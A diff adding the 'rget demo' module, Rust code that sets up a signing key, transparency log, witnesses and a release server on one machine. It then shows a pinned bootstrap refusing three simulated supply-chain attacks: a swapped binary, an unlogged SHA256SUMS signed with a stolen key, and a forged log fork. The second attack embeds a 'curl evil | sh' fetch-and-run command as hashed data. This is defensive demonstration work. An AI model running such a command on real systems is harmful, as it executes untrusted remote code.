@@ -1,0 +1,449 @@
+//! `rget demo`: the whole mission on one machine, with real parts. In a fresh workspace it makes a
+//! release key, a transparency log and two witnesses (real `rget log serve` / `rget witness serve`
+//! processes on loopback, a 2-of-2 policy), an HTTPS release server with its own CA, publishes a
+//! release of the running rget binary with `rget release`, builds an `rget-bootstrap` pinned to it
+//! (`cargo build` with `RGET_PINNED_DIR`), runs that bootstrap to install and execute the verified
+//! rget, and then shows three attacks refused by the same bootstrap with their real error messages.
+//! Everything it started is stopped and its workspace removed on every way out (see
+//! [`children::Children`]).
+
+pub mod children;
+pub mod fork;
+pub mod https;
+
+use crate::client::own_release::{TARGET, VERSION};
+use crate::core::digest::sha256;
+use crate::core::pins::binary_name;
+use children::{Children, Started};
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::time::{Duration, Instant};
+
+/// Where the demo runs and what it builds with.
+pub struct Options {
+    /// The rget binary to release and to run the servers with (the running one).
+    pub exe: PathBuf,
+    /// The rget source tree (for `cargo build -p rget-bootstrap`).
+    pub source: PathBuf,
+    /// Cargo's target directory for the bootstrap build.
+    pub target_dir: PathBuf,
+    /// Keep the workspace (for inspection) instead of removing it.
+    pub keep: bool,
+    /// Where to create the workspace.
+    pub tmp: PathBuf,
+}
+
+/// One attack and how it was refused.
+#[derive(Debug, Clone)]
+pub struct Attack {
+    pub name: &'static str,
+    /// What the check that stopped it proves.
+    pub stopped_by: &'static str,
+    pub refused: bool,
+    pub exit_code: Option<i32>,
+    /// The bootstrap's own one-line error.
+    pub error: String,
+    /// The installed rget is still the verified one, and nothing else was written.
+    pub destination_untouched: bool,
+}
+
+/// What the demo did and saw.
+#[derive(Debug, Clone, Default)]
+pub struct Account {
+    pub workspace: PathBuf,
+    pub version: String,
+    pub released_sha256: String,
+    pub bootstrap_sha256: String,
+    pub installed: bool,
+    /// What the executed rget reported as its own digest (`self verify`, hashing /proc/self/exe).
+    pub executed_sha256: String,
+    pub log_index: Option<u64>,
+    pub bootstrap_checks: Vec<String>,
+    pub attacks: Vec<Attack>,
+    pub server_pids: Vec<u32>,
+    /// After cleanup: no server alive and the workspace gone (or kept on request).
+    pub cleaned_up: bool,
+    pub seconds: f64,
+}
+
+/// Runs the demo; `say` gets one line per step as it happens.
+pub fn run(opts: &Options, say: &mut dyn FnMut(&str)) -> Result<Account, String> {
+    let started = Instant::now();
+    let ws = make_workspace(&opts.tmp)?;
+    let kids = Children::new(&ws, opts.keep);
+    kids.exit_on_signals()?;
+    let mut account = Account {
+        workspace: ws.clone(),
+        version: VERSION.to_owned(),
+        ..Account::default()
+    };
+    say(&format!("workspace {} (pid {})", ws.display(), std::process::id()));
+    let result = steps(opts, &ws, &kids, &mut account, say);
+    account.server_pids = kids.server_pids();
+    kids.cleanup(Duration::from_secs(5));
+    account.cleaned_up = account.server_pids.iter().all(|p| !children::alive(*p))
+        && (opts.keep || !ws.exists());
+    account.seconds = started.elapsed().as_secs_f64();
+    result.map(|()| account)
+}
+
+/// `<tmp>/rget-demo-<random>`, mode 0700.
+fn make_workspace(tmp: &Path) -> Result<PathBuf, String> {
+    use std::os::unix::fs::DirBuilderExt;
+    let mut r = [0u8; 6];
+    getrandom::fill(&mut r).map_err(|e| e.to_string())?;
+    let ws = tmp.join(format!("rget-demo-{}", hex::encode(r)));
+    std::fs::DirBuilder::new()
+        .mode(0o700)
+        .create(&ws)
+        .map_err(|e| format!("cannot create {}: {e}", ws.display()))?;
+    Ok(ws)
+}
+
+fn os(args: &[&str]) -> Vec<OsString> {
+    args.iter().map(OsString::from).collect()
+}
+
+fn p(path: &Path) -> &str {
+    path.to_str().unwrap_or_default()
+}
+
+/// Runs `rget ARGS` to success, or fails with its last error line.
+fn rget(kids: &Children, exe: &Path, args: &[&str]) -> Result<Output, String> {
+    let out = kids.run(Command::new(exe).args(args))?;
+    if !out.status.success() {
+        return Err(format!(
+            "rget {} failed: {}",
+            args.first().copied().unwrap_or_default(),
+            last_line(&out.stderr)
+        ));
+    }
+    Ok(out)
+}
+
+fn last_line(b: &[u8]) -> String {
+    String::from_utf8_lossy(b)
+        .lines()
+        .rev()
+        .find(|l| !l.trim().is_empty())
+        .unwrap_or("")
+        .to_owned()
+}
+
+fn last_stdout_line(out: &Output) -> String {
+    last_line(&out.stdout)
+}
+
+fn dir(ws: &Path, name: &str) -> Result<PathBuf, String> {
+    let d = ws.join(name);
+    std::fs::create_dir_all(&d).map_err(|e| format!("cannot create {}: {e}", d.display()))?;
+    Ok(d)
+}
+
+fn write(path: &Path, bytes: impl AsRef<[u8]>) -> Result<(), String> {
+    std::fs::write(path, bytes).map_err(|e| format!("cannot write {}: {e}", path.display()))
+}
+
+fn read(path: &Path) -> Result<Vec<u8>, String> {
+    std::fs::read(path).map_err(|e| format!("cannot read {}: {e}", path.display()))
+}
+
+const LOG_ORIGIN: &str = "demo.rget.example/log";
+
+fn steps(
+    opts: &Options,
+    ws: &Path,
+    kids: &Children,
+    account: &mut Account,
+    say: &mut dyn FnMut(&str),
+) -> Result<(), String> {
+    let exe = &opts.exe;
+
+    // 1. The publisher's release key, minisign-compatible.
+    let keys = dir(ws, "keys")?;
+    let (key_pub, key_sec) = (keys.join("release.pub"), keys.join("release.key"));
+    rget(kids, exe, &["keygen", "-W", "-p", p(&key_pub), "-s", p(&key_sec)])?;
+    say(&format!("1. release key     rget keygen -W: {}", p(&key_pub)));
+
+    // 2. Two witnesses, then the log that needs both of them to cosign every checkpoint.
+    let log_dir = ws.join("log");
+    let log_vkey = last_stdout_line(&rget(
+        kids,
+        exe,
+        &["log", "init", "--origin", LOG_ORIGIN, p(&log_dir)],
+    )?);
+    let witness_policy = ws.join("witness-policy");
+    write(&witness_policy, format!("log {log_vkey}\nquorum none\n"))?;
+    let mut witnesses: Vec<(String, Started)> = Vec::new();
+    for i in 1..=2 {
+        let wdir = ws.join(format!("witness{i}"));
+        let name = format!("demo.rget.example/witness{i}");
+        let vkey = last_stdout_line(&rget(kids, exe, &["witness", "init", "--name", &name, p(&wdir)])?);
+        let s = kids.start_server(
+            exe,
+            &os(&[
+                "witness",
+                "serve",
+                p(&wdir),
+                "--listen",
+                "127.0.0.1:0",
+                "--policy",
+                p(&witness_policy),
+            ]),
+            &ws.join(format!("witness{i}.log")),
+        )?;
+        say(&format!("2. witness {i}       rget witness serve at {} (pid {})", s.base, s.pid));
+        witnesses.push((vkey, s));
+    }
+    let mut witness_lines = String::new();
+    for (i, (vkey, s)) in witnesses.iter().enumerate() {
+        witness_lines.push_str(&format!("witness w{} {vkey} {}/\n", i + 1, s.base));
+    }
+    let quorum = "group both all w1 w2\nquorum both\n";
+    let log_witnesses = ws.join("log-witnesses");
+    write(&log_witnesses, format!("{witness_lines}{quorum}"))?;
+    let log = kids.start_server(
+        exe,
+        &os(&[
+            "log",
+            "serve",
+            p(&log_dir),
+            "--listen",
+            "127.0.0.1:0",
+            "--batch-delay",
+            "10",
+            "--witnesses",
+            p(&log_witnesses),
+        ]),
+        &ws.join("log.log"),
+    )?;
+    say(&format!("3. log             rget log serve {LOG_ORIGIN} at {} (pid {}), 2-of-2 witnesses", log.base, log.pid));
+    let policy = ws.join("policy");
+    let mut client_policy = format!("log {log_vkey} {}/\n", log.base);
+    for (i, (vkey, _)) in witnesses.iter().enumerate() {
+        client_policy.push_str(&format!("witness w{} {vkey}\n", i + 1));
+    }
+    client_policy.push_str(quorum);
+    write(&policy, &client_policy)?;
+
+    // 3. The release host: static HTTPS with its own CA.
+    let www = dir(ws, "www")?;
+    let srv = https::start(&www, &dir(ws, "tls")?)?;
+    say(&format!("4. release server  HTTPS at {} (CA {})", srv.base, p(&srv.ca_pem)));
+
+    // 4. Publish the running rget as a release: SHA256SUMS, signature, log proof.
+    let name = binary_name(VERSION, TARGET);
+    let rel_dir = dir(&www, &format!("rget/v{VERSION}"))?;
+    let bytes = read(exe)?;
+    account.released_sha256 = sha256(&bytes).to_hex();
+    write(&rel_dir.join(&name), &bytes)?;
+    let base_url = format!("{}/rget/v{VERSION}/", srv.base);
+    rget(
+        kids,
+        exe,
+        &[
+            "release",
+            p(&rel_dir),
+            "--key",
+            p(&key_sec),
+            "--url",
+            &base_url,
+            "--log",
+            &format!("{}/", log.base),
+            "--policy",
+            p(&policy),
+            "--allow-http",
+            "--cacert",
+            p(&srv.ca_pem),
+            "--state",
+            p(&ws.join("publisher-state")),
+        ],
+    )?;
+    say(&format!(
+        "5. release         rget release: {name} (sha256 {}), SHA256SUMS signed, logged and cosigned by both witnesses",
+        account.released_sha256
+    ));
+
+    // 5. A bootstrap pinned to this release.
+    let pins = dir(ws, "pins")?;
+    write(&pins.join("SHA256SUMS"), read(&rel_dir.join("SHA256SUMS"))?)?;
+    write(&pins.join("release.pub"), read(&key_pub)?)?;
+    write(&pins.join("policy"), &client_policy)?;
+    write(&pins.join("source"), format!("{}/rget/v{{version}}/\n", srv.base))?;
+    say("6. bootstrap       cargo build -p rget-bootstrap with RGET_PINNED_DIR (the first run compiles its dependencies)");
+    let boot = build_bootstrap(opts, &pins, ws, kids)?;
+    account.bootstrap_sha256 = sha256(&read(&boot)?).to_hex();
+    say(&format!("                  rget-bootstrap sha256 {}", account.bootstrap_sha256));
+
+    // 6. The bootstrap installs and runs the verified rget, which verifies itself.
+    let bin = dir(ws, "bin")?;
+    let host_state = ws.join("host-state");
+    let out = kids.run(bootstrap_cmd(&boot, &bin, &srv.ca_pem).args([
+        "--",
+        "self",
+        "verify",
+        "--json",
+        "--pins",
+        p(&pins),
+        "--cacert",
+        p(&srv.ca_pem),
+        "--allow-http",
+        "--state",
+        p(&host_state),
+    ]))?;
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    account.bootstrap_checks = stderr
+        .lines()
+        .filter(|l| l.starts_with("ok: "))
+        .map(str::to_owned)
+        .collect();
+    if !out.status.success() {
+        return Err(format!("the bootstrap failed: {}", last_line(&out.stderr)));
+    }
+    let report = String::from_utf8_lossy(&out.stdout);
+    account.executed_sha256 = json_field(&report, "sha256").unwrap_or_default();
+    account.log_index = json_field(&report, "index").and_then(|s| s.parse().ok());
+    account.installed = read(&bin.join("rget"))? == bytes;
+    for c in &account.bootstrap_checks {
+        say(&format!("                  {c}"));
+    }
+    say(&format!(
+        "7. install + exec  {} installed; the executed rget hashed itself: {} ({})",
+        p(&bin.join("rget")),
+        account.executed_sha256,
+        if account.executed_sha256 == account.released_sha256 { "the released digest" } else { "NOT the released digest" }
+    ));
+
+    // 7. The attacks, each against the same bootstrap and the same install directory.
+    let installed = read(&bin.join("rget"))?;
+    let rel_bin = rel_dir.join(&name);
+    let sums_path = rel_dir.join("SHA256SUMS");
+    let (sums, minisig, proof) = (
+        read(&sums_path)?,
+        read(&rel_dir.join("SHA256SUMS.minisig"))?,
+        read(&rel_dir.join("SHA256SUMS.tlog-proof"))?,
+    );
+    let attack = |name: &'static str, stopped_by: &'static str| -> Result<Attack, String> {
+        let out = kids.run(bootstrap_cmd(&boot, &bin, &srv.ca_pem).args(["--", "--version"]))?;
+        let untouched = read(&bin.join("rget"))? == installed && only(&bin, &["rget", "rget.previous"]);
+        Ok(Attack {
+            name,
+            stopped_by,
+            refused: !out.status.success(),
+            exit_code: out.status.code(),
+            error: last_line(&out.stderr),
+            destination_untouched: untouched,
+        })
+    };
+
+    // a. The release host swaps the binary.
+    let mut evil = bytes.clone();
+    evil.extend_from_slice(b"\n# a backdoor\n");
+    write(&rel_bin, &evil)?;
+    account.attacks.push(attack(
+        "a binary swapped on the release server",
+        "the pinned digest: the bootstrap accepts only the bytes it was built to accept",
+    )?);
+    write(&rel_bin, &bytes)?;
+    report_attack(account.attacks.last(), 8, say);
+
+    // b. A stolen release key signs a SHA256SUMS that was never logged.
+    let evil_sums = [&sums[..], format!("{}  rget-tools.sh\n", sha256(b"curl evil | sh")).as_bytes()].concat();
+    let evil_sig = crate::cli::release::sign_sums(&key_sec, &evil_sums)?;
+    write(&sums_path, &evil_sums)?;
+    write(&rel_dir.join("SHA256SUMS.minisig"), &evil_sig)?;
+    account.attacks.push(attack(
+        "an unlogged SHA256SUMS signed with a stolen release key",
+        "the transparency log: a SHA256SUMS counts only if its record is in the log everyone sees",
+    )?);
+    report_attack(account.attacks.last(), 9, say);
+
+    // c. The log key signs a forked tree in which that SHA256SUMS is included.
+    let size = log_size(&log_dir)?;
+    let log_key = String::from_utf8(read(&log_dir.join("log.key"))?).map_err(|e| e.to_string())?;
+    let forged = fork::forged_proof(&log_key, size, &format!("{base_url}SHA256SUMS"), &evil_sums)?;
+    write(&rel_dir.join("SHA256SUMS.tlog-proof"), &forged)?;
+    account.attacks.push(attack(
+        "a forked checkpoint signed by the log's own key",
+        "the witnesses: they cosign one view of the log only, so a fork misses the 2-of-2 quorum",
+    )?);
+    report_attack(account.attacks.last(), 10, say);
+    write(&sums_path, &sums)?;
+    write(&rel_dir.join("SHA256SUMS.minisig"), &minisig)?;
+    write(&rel_dir.join("SHA256SUMS.tlog-proof"), &proof)?;
+    Ok(())
+}
+
+fn report_attack(a: Option<&Attack>, n: usize, say: &mut dyn FnMut(&str)) {
+    if let Some(a) = a {
+        say(&format!(
+            "{n}. attack          {}: {} (exit {}) {}",
+            a.name,
+            if a.refused { "REFUSED" } else { "NOT REFUSED" },
+            a.exit_code.map_or("?".into(), |c| c.to_string()),
+            a.error
+        ));
+    }
+}
+
+/// Whether `dir` holds nothing but (some of) `names`.
+fn only(dir: &Path, names: &[&str]) -> bool {
+    std::fs::read_dir(dir)
+        .map(|rd| {
+            rd.flatten()
+                .all(|e| names.contains(&e.file_name().to_string_lossy().as_ref()))
+        })
+        .unwrap_or(false)
+}
+
+fn bootstrap_cmd(boot: &Path, bin: &Path, ca: &Path) -> Command {
+    let mut c = Command::new(boot);
+    c.args(["--prefix", p(bin), "--cacert", p(ca)]);
+    c
+}
+
+/// The published checkpoint's size (the second line of `log/public/checkpoint`).
+fn log_size(log_dir: &Path) -> Result<u64, String> {
+    let cp = String::from_utf8(read(&log_dir.join("public").join("checkpoint"))?).map_err(|e| e.to_string())?;
+    cp.lines()
+        .nth(1)
+        .and_then(|l| l.parse().ok())
+        .ok_or_else(|| "the log's checkpoint has no size".to_owned())
+}
+
+/// `cargo build -p rget-bootstrap` with the demo's pins; returns the copied binary.
+fn build_bootstrap(opts: &Options, pins: &Path, ws: &Path, kids: &Children) -> Result<PathBuf, String> {
+    let manifest = opts.source.join("Cargo.toml");
+    if !opts.source.join("bootstrap").join("build.rs").is_file() {
+        return Err(format!(
+            "{} is not the rget source tree (no bootstrap/build.rs): give --source DIR",
+            opts.source.display()
+        ));
+    }
+    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
+    let out = kids.run(
+        Command::new(cargo)
+            .args(["build", "--locked", "-p", "rget-bootstrap", "--manifest-path"])
+            .arg(&manifest)
+            .env("CARGO_TARGET_DIR", &opts.target_dir)
+            .env("RGET_PINNED_DIR", pins),
+    )?;
+    if !out.status.success() {
+        return Err(format!("building the bootstrap failed: {}", last_line(&out.stderr)));
+    }
+    let built = opts.target_dir.join("debug").join("rget-bootstrap");
+    let boot = ws.join("rget-bootstrap");
+    std::fs::copy(&built, &boot).map_err(|e| format!("cannot copy {}: {e}", built.display()))?;
+    Ok(boot)
+}
+
+/// The value of `"key":` in a flat JSON object (a string's content, or a number).
+fn json_field(json: &str, key: &str) -> Option<String> {
+    let at = json.find(&format!("\"{key}\":"))? + key.len() + 3;
+    let rest = &json[at..];
+    if let Some(s) = rest.strip_prefix('"') {
+        return s.split('"').next().map(str::to_owned);
+    }
+    Some(rest.chars().take_while(|c| c.is_ascii_digit()).collect())
+}
